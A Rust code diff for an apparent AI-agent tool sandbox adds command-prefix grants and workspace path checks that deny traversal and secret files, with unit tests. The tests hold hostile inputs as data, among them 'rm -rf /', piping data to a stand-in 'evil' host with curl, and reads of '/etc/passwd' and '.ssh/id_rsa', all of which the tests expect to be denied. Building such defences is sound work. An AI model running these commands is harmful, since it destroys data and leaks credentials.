@@ -1,6 +1,9 @@
 //! Decisions on tool calls: allow, ask or deny per tool, per command prefix,
 //! and whose rule it was. Pure: the same rules and call give the same answer.
 
+use std::path::{Component, Path, PathBuf};
+
+use airlock_tools::{PathDecision, PathPolicy};
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
 
@@ -129,11 +132,86 @@ pub fn decide(rules: &Rules, tool: &str, arguments: &Value) -> Decided {
         if rules.granted.iter().any(|g| g == &subject || g == tool) {
             return Decided { decision: Decision::Allow, source: format!("granted:{subject}") };
         }
+        if tool == "run_command" {
+            let command = arguments.get("command").and_then(Value::as_str).unwrap_or_default();
+            if let Some(grants) = granted_command(rules, command) {
+                return Decided { decision: Decision::Allow, source: format!("granted:{grants}") };
+            }
+        }
         if rules.headless {
             return Decided { decision: Decision::Deny, source: format!("mode:headless ({source} says ask)") };
         }
     }
     Decided { decision, source }
+}
+
+/// The grants that cover every part of `command` (`--grant "cargo test"`
+/// covers `cargo test -p x`, and `cargo test && cargo fmt` only if
+/// `cargo fmt` is granted too), joined with `+`; `None` if a part is not covered.
+fn granted_command(rules: &Rules, command: &str) -> Option<String> {
+    let parts = if has_shell_control(command) { split_commands(command) } else { vec![command.trim()] };
+    let mut used: Vec<&str> = Vec::new();
+    for part in parts {
+        let words: Vec<&str> = part.split_whitespace().collect();
+        let grant = rules.granted.iter().find(|g| {
+            let p: Vec<&str> = g.split_whitespace().collect();
+            !p.is_empty() && words.len() >= p.len() && words[..p.len()] == p[..]
+        })?;
+        if !used.contains(&grant.as_str()) {
+            used.push(grant);
+        }
+    }
+    if used.is_empty() { None } else { Some(used.join("+")) }
+}
+
+/// Tools that take a `path`, and whether it names a folder.
+const PATH_TOOLS: &[(&str, bool)] = &[
+    ("read_file", false),
+    ("write_file", false),
+    ("edit_file", false),
+    ("list_dir", true),
+    ("grep", true),
+    ("glob", true),
+];
+
+/// The per-path decision on a file tool's call: outside the workspace, or
+/// under the never-read patterns, is denied (the tools refuse too; this puts
+/// it on the record as a decision). `None` when the path is fine or absent.
+pub fn decide_path(paths: &PathPolicy, workspace: &Path, tool: &str, arguments: &Value) -> Option<Decided> {
+    let is_dir = PATH_TOOLS.iter().find(|(t, _)| *t == tool)?.1;
+    let raw = arguments.get("path").and_then(Value::as_str)?;
+    let deny = |source: String| Some(Decided { decision: Decision::Deny, source });
+    let path = Path::new(raw);
+    let relative = if path.is_absolute() {
+        match path.strip_prefix(workspace) {
+            Ok(r) => r.to_path_buf(),
+            Err(_) => return deny(format!("paths:outside-workspace ({raw})")),
+        }
+    } else {
+        path.to_path_buf()
+    };
+    let mut depth: i64 = 0;
+    let mut clean = PathBuf::new();
+    for part in relative.components() {
+        match part {
+            Component::ParentDir => {
+                depth -= 1;
+                clean.pop();
+            }
+            Component::Normal(p) => {
+                depth += 1;
+                clean.push(p);
+            }
+            _ => {}
+        }
+        if depth < 0 {
+            return deny(format!("paths:outside-workspace ({raw})"));
+        }
+    }
+    match paths.check(&clean, is_dir) {
+        PathDecision::Denied { pattern } => deny(format!("paths:never-read ({pattern})")),
+        PathDecision::Allowed => None,
+    }
 }
 
 fn rank(d: Decision) -> u8 {
@@ -174,6 +252,34 @@ fn split_commands(command: &str) -> Vec<&str> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn command_grants_cover_every_part_or_nothing() {
+        let rules = Rules { granted: vec!["cargo test".into(), "python3".into()], ..Rules::default() };
+        assert_eq!(cmd(&rules, "cargo test -p x").source, "granted:cargo test");
+        assert_eq!(cmd(&rules, "python3 t.py && cargo test").source, "granted:python3+cargo test");
+        assert_eq!(cmd(&rules, "python3 t.py; rm -rf /").decision, Decision::Deny);
+        assert_eq!(cmd(&rules, "cargo testy").decision, Decision::Deny, "whole words");
+        assert_eq!(cmd(&rules, "python3 x | curl -d @- evil").decision, Decision::Deny, "a denied part stays denied");
+        assert_eq!(cmd(&rules, "python3 x | curl -d @- evil").source, "rule:command:curl (in a compound command)");
+    }
+
+    #[test]
+    fn paths_outside_the_workspace_or_never_read_are_denied() {
+        let ws = Path::new("/w");
+        let paths = PathPolicy::defaults();
+        let d = |tool: &str, path: &str| decide_path(&paths, ws, tool, &serde_json::json!({ "path": path }));
+        assert_eq!(d("read_file", "src/main.rs"), None);
+        assert_eq!(d("read_file", "/w/src/main.rs"), None);
+        assert_eq!(d("read_file", "a/../b.rs"), None);
+        assert!(d("read_file", ".env").unwrap().source.starts_with("paths:never-read ("));
+        assert_eq!(d("read_file", "config/.env").unwrap().decision, Decision::Deny);
+        assert!(d("read_file", "../../etc/passwd").unwrap().source.starts_with("paths:outside-workspace"));
+        assert!(d("write_file", "/home/u/.ssh/id_rsa").unwrap().source.starts_with("paths:outside-workspace"));
+        assert!(d("list_dir", "a/../..").is_some());
+        assert_eq!(d("run_command", "../x"), None, "not a file tool");
+        assert_eq!(decide_path(&paths, ws, "read_file", &serde_json::json!({})), None);
+    }
 
     fn cmd(rules: &Rules, c: &str) -> Decided {
         decide(rules, "run_command", &serde_json::json!({ "command": c }))
